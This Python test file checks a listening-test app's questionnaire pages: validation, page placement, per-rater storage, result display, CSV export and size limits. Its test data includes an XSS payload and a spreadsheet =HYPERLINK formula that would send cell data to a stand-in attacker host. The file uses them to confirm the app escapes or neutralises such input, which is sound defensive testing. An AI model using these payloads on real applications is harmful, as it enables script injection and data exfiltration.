"""Questionnaire pages a designer defines (issue #42): choice, number and short-text fields,
required or not, on pages before the first item, after item N and at the end; stored per
rater, shown per rater in the results (``q_<key>``), exported through the one CSV writer
(an HTML/script payload stays text, a formula payload is neutralised), never sent to another
rater; every size bounded. Real server, real SQLite file, the real Piper voice, a scripted
rater over the real routes."""

from __future__ import annotations

import asyncio
import io
import json
import zipfile

import httpx
import pandas as pd
import pytest

from app.listening.questionnaire import MAX_FIELDS, MAX_OPTIONS, MAX_PAGES, MAX_TEXT_CHARS
from tests.support.app_util import create_test, listening_app, live_server
from tests.support.rater import RaterClient

PW = "q-admin-pw"
ADMIN = {"Authorization": f"Bearer {PW}"}
PROMPTS = ["The birch canoe slid on the smooth planks.", "Rice is often served in round bowls."]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAGES = [
    {
        "at": "start",
        "title": "About you",
        "fields": [
            {
                "key": "age_band",
                "label": "Your age",
                "type": "choice",
                "options": ["18-29", "30-49", "50 or over"],
            },
            {
                "key": "hours",
                "label": "Hours of listening a day",
                "type": "number",
                "min": 0,
                "max": 24,
                "required": False,
            },
        ],
    },
    {
        "at": 2,
        "title": "Half way",
        "fields": [
            {
                "key": "device",
                "label": "Listening with",
                "type": "choice",
                "options": ["Headphones", "Speakers"],
            },
            {
                "key": "comments",
                "label": "Anything so far?",
                "type": "text",
                "max_length": 200,
                "required": False,
            },
        ],
    },
    {
        "at": "end",
        "title": "Last question",
        "fields": [{"key": "feedback", "label": "Feedback", "type": "text", "max_length": 80}],
    },
]


@pytest.fixture(scope="module")
def live():
    with live_server(listening_app(PW)) as lv:
        yield lv


def make(live, **spec) -> str:
    return create_test(
        live,
        ADMIN,
        prompts=PROMPTS,
        items_per_rater=4,
        headphone_check=False,
        screening=False,
        completion_code="Q-DONE",
        **spec,
    )


async def answer_item(c: RaterClient, st: dict) -> dict:
    aid = st["item"]["assignment_id"]
    await c.listen(aid, 0)
    r = await c.vote({"assignment_id": aid, "score": 4})
    assert r.status_code == 200, r.text
    return await c.status()


def test_pages_where_the_designer_put_them_stored_shown_and_exported(live):
    tid = make(live, questionnaire=PAGES)

    async def go():
        c = RaterClient(live.url, tid, "PID-Q1")
        await c.join()
        st = await c.status()
        assert (st["stage"], st["questionnaire"]["at"]) == ("questionnaire", "start")
        assert [f["key"] for f in st["questionnaire"]["fields"]] == ["age_band", "hours"]
        for bad, word in (
            ({"age_band": "17"}, "age_band"),
            ({"hours": 3}, "age_band"),  # required and missing
            ({"age_band": "18-29", "hours": 25}, "hours"),
            ({"age_band": "18-29", "hours": True}, "hours"),
            ({"age_band": "18-29", "other": 1}, "unknown question"),
        ):
            r = await c.post("questionnaire", {"answers": bad})
            assert r.status_code == 400 and word in r.json()["detail"], (bad, r.text)
        ok = await c.post("questionnaire", {"answers": {"age_band": "30-49"}})  # hours optional
        assert ok.json() == {"stored": True, "page": "start"}
        st = await c.status()
        assert st["stage"] == "item" and st["questionnaire"] is None
        st = await answer_item(c, st)
        st = await answer_item(c, st)
        assert (st["stage"], st["questionnaire"]["at"], st["item"]) == (
            "questionnaire",
            "after:2",
            None,
        )
        nxt = next(
            a.assignment_id
            for a in live.state.store.assignments(tid, st["rater_id"])
            if a.position == 2
        )
        refused = await c.vote({"assignment_id": nxt, "score": 3})
        assert refused.status_code == 403 and "questionnaire" in refused.json()["detail"]
        long = await c.post(
            "questionnaire", {"answers": {"device": "Speakers", "comments": "x" * 201}}
        )
        assert long.status_code == 400 and "at most 200" in long.json()["detail"]
        await c.post("questionnaire", {"answers": {"device": "Speakers", "comments": SCRIPT}})
        st = await answer_item(c, await c.status())
        st = await answer_item(c, st)
        assert st["stage"] == "questionnaire" and st["questionnaire"]["at"] == "end"
        assert "completion_code" not in st  # the code comes after the last page
        (await c.post("questionnaire", {"answers": {"feedback": FORMULA}})).raise_for_status()
        st = await c.status()
        assert st["stage"] == "done" and st["completion_code"] == "Q-DONE"
        # another rater's page carries the fields only, never the first rater's answers
        other = RaterClient(live.url, tid, "PID-Q2")
        await other.join()
        seen = json.dumps(await other.status())
        await c.aclose(), await other.aclose()
        return st["rater_id"], seen

    rid, seen = asyncio.run(go())
    assert "alert" not in seen and "HYPERLINK" not in seen
    stored = json.loads(
        live.state.store.db.execute(
            "SELECT questionnaire FROM test_raters WHERE rater_id=?", [rid]
        ).fetchone()[0]
    )
    assert stored == {
        "age_band": "30-49",
        "hours": None,
        "device": "Speakers",
        "comments": SCRIPT,
        "feedback": FORMULA,
        "_pages": ["start", "after:2", "end"],
    }
    res = httpx.get(f"{live.url}ll/admin/tests/{tid}/results", headers=ADMIN, timeout=60).json()
    me = next(r for r in res["raters"] if r["rater_id"] == rid)
    assert (me["q_age_band"], me["q_device"], me["q_comments"]) == ("30-49", "Speakers", SCRIPT)
    z = httpx.get(f"{live.url}ll/admin/tests/{tid}/export.zip", headers=ADMIN, timeout=60)
    assert z.status_code == 200, z.text[:3000]
    files = zipfile.ZipFile(io.BytesIO(z.content))
    raters = pd.read_csv(io.BytesIO(files.read("results/raters.csv"))).set_index("rater_id")
    assert raters.loc[rid, "q_feedback"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert raters.loc[rid, "q_comments"] == SCRIPT  # data in a CSV, as given
    study = json.loads(files.read("study.json"))
    assert [p["at"] for p in study["texts"]["questionnaire"]["pages"]] == [
        "start",
        "after:2",
        "end",
    ]


@pytest.mark.parametrize(
    ("questionnaire", "words"),
    [
        (
            [
                {
                    "at": "start",
                    "fields": [
                        {"key": f"k{i}", "label": "x", "type": "number", "min": 0, "max": 1}
                        for i in range(MAX_FIELDS + 1)
                    ],
                }
            ],
            "at most 20",
        ),
        (
            [
                {
                    "fields": [
                        {
                            "key": "c",
                            "label": "x",
                            "type": "choice",
                            "options": [str(i) for i in range(MAX_OPTIONS + 1)],
                        }
                    ]
                }
            ],
            "2..20 options",
        ),
        (
            [
                {
                    "fields": [
                        {"key": "t", "label": "x", "type": "text", "max_length": MAX_TEXT_CHARS + 1}
                    ]
                }
            ],
            "max_length",
        ),
        ([{"at": 0, "fields": [{"key": "t", "label": "x", "type": "text"}]}], '"at"'),
        ([{"at": 4, "fields": [{"key": "t", "label": "x", "type": "text"}]}], '"at"'),
        ([{"at": "end", "fields": [{"key": "Bad Key", "label": "x", "type": "text"}]}], "key"),
        (
            [{"fields": [{"key": "n", "label": "x", "type": "number", "min": 2, "max": 1}]}],
            "min <= max",
        ),
        (
            [
                {"at": a, "fields": [{"key": f"k{a}", "label": "x", "type": "text"}]}
                for a in ("start", 1, 2, 3, "end", "start")
            ],
            f"1..{MAX_PAGES} pages",
        ),
        (
            [
                {"at": "start", "fields": [{"key": "a", "label": "x", "type": "text"}]},
                {"at": "end", "fields": [{"key": "a", "label": "y", "type": "text"}]},
            ],
            "once",
        ),
        ([{"fields": [{"key": "a", "label": "x" * 301, "type": "text"}]}], "label"),
    ],
)
def test_the_designer_bounds_every_size(live, questionnaire, words):
    body = {
        "name": "t",
        "kind": "mos",
        "systems": [{"name": "a", "backend": "piper"}],
        "prompts": PROMPTS,
        "items_per_rater": 4,
        "questionnaire": questionnaire,
    }
    r = httpx.post(f"{live.url}ll/admin/tests", json=body, headers=ADMIN, timeout=60)
    assert r.status_code == 400 and words in r.json()["detail"], r.text
